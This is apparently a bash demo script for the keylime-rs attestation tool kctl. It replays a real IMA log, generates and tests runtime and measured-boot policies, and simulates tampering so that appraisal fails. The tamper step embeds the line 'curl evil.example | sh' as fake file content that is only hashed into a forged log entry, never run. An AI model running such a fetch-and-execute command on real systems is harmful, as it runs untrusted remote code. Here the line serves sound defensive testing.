#!/usr/bin/env bash
# The keylime-rs demo. Installs what is missing, builds kctl, and walks through offline
# attestation on real logs from real machines: replay IMA into PCR 10, generate a runtime policy,
# appraise the log (passes), tamper with it (fails, naming the file), then decode a UEFI event log,
# generate a measured-boot policy from it and appraise another machine's log against it.
set -euo pipefail
cd "$(dirname "$0")/.."
scripts/install-deps.sh
cargo build --release --locked -p kctl --quiet

kctl=target/release/kctl
data=lib/core/tests/data/keylime
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

step() { printf '\n\033[1m== %s\033[0m\n$ %s\n' "$1" "${*:2}"; }
run() { step "$@"; "${@:2}" || echo "(exit status $?)"; }

log=$data/ima/ascii_runtime_measurements
run "Replay a real IMA log (826 entries) into PCR 10" \
    $kctl ima replay "$log" -o json

run "Generate a runtime policy from it" \
    $kctl policies runtime generate --ima-log "$log" --out "$work/runtime.json" -o json
head -c 300 "$work/runtime.json"; echo " ..."

pcr10=$($kctl ima replay "$log" -o json | sed -n 's/.*"pcr10": "\(.*\)".*/\1/p')
run "Appraise the log against the policy, with the quoted PCR 10" \
    $kctl policies test --runtime-policy "$work/runtime.json" --ima-log "$log" --pcr10 "$pcr10"

step "Tamper: an unknown binary runs after the quote" "echo '10 ... ima-ng sha256:... /usr/bin/evil' >> tampered"
cp "$log" "$work/tampered"
python3 - "$work/tampered" <<'PY'
import hashlib, struct, sys
path, content = b"/usr/bin/evil", b"#!/bin/sh\ncurl evil.example | sh\n"
digest = hashlib.sha256(content).digest()
data = struct.pack("<I", 8 + 32) + b"sha256:\0" + digest + struct.pack("<I", len(path) + 1) + path + b"\0"
line = "10 %s ima-ng sha256:%s %s\n" % (hashlib.sha1(data).hexdigest(), digest.hex(), path.decode())
open(sys.argv[1], "a").write(line)
PY
run "Appraise the tampered log: exit 1, the finding names the file and line" \
    $kctl policies test --runtime-policy "$work/runtime.json" --ima-log "$work/tampered" --pcr10 "$pcr10" -o json

uefi=$data/eventlog/binary_bios_measurements
run "Decode a real UEFI event log and replay its PCRs (first lines)" \
    bash -c "$kctl eventlog show $uefi | head -20"

run "Generate a measured-boot policy from it (this machine boots with Secure Boot off)" \
    $kctl policies mb generate --event-log "$uefi" --allow-secureboot-off --out "$work/mb.json" -o json

run "The same machine passes" \
    $kctl policies test --mb-policy "$work/mb.json" --event-log "$uefi"

run "Another machine fails: its firmware, boot loader and kernel are not the allowed ones" \
    $kctl policies test --mb-policy "$work/mb.json" --event-log "$data/eventlog/binary_bios_measurements-secureboot"

printf '\nDone. kctl is at %s; try `%s --help`.\n' "$kctl" "$kctl"
